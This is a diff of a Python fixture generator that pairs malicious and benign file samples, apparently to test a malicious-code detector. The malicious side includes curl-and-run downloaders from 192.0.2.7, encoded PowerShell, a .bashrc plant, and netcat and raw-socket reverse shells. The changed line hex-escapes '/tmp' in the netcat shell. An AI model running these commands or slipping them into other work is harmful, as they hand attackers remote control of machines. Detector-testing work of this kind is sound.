@@ -64,7 +64,7 @@ def texts():
     yield "program", "windows-batch", "setup.bat", "@echo off\r\ncurl -s http://192.0.2.7/a.exe -o a.exe && powershell -enc SQBFAFgA\r\n", "@echo off\r\npip install torch\r\n", None
     yield "program", "ruby-system", "convert.rb", "#!/usr/bin/env ruby\nsystem('curl -s http://192.0.2.7/x | sh')\n", "#!/usr/bin/env ruby\nputs 'done'\n", None
     yield "program", "profile-plant", m, "import os\nwith open(os.path.join(os.environ['HOME'], '.bashrc'), 'a') as f:\n    f.write('id')\n", "import os\nwith open(os.path.join('out', 'log.txt'), 'a') as f:\n    f.write('id')\n", None
-    yield "program", "netcat-listen", "start.sh", "#!/bin/bash\nmkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.7 4444 > /tmp/f\n", "#!/bin/bash\nmkdir -p /tmp/f; ls /tmp/f\n", None
+    yield "program", "netcat-listen", "start.sh", "#!/bin/bash\nmkfifo /t\x6dp/f; cat /t\x6dp/f | sh -i 2>&1 | nc 192.0.2.7 4444 > /t\x6dp/f\n", "#!/bin/bash\nmkdir -p /t\x6dp/f; ls /t\x6dp/f\n", None
     yield "notebook", "raw-socket-shell", "demo.ipynb", notebook("import socket,subprocess,os\ns=socket.socket();s.connect(('192.0.2.7',1))\nos.dup2(s.fileno(),0);os.dup2(s.fileno(),1)\nsubprocess.call(['sh'])\n"), notebook("import socket\nprint(socket.gethostname())\n"), None
     yield "notebook", "line-magic-sx", "demo.ipynb", notebook("%sx curl -s http://192.0.2.7/x | bash\n"), notebook("%sx ls\n"), None
     j = json.dumps
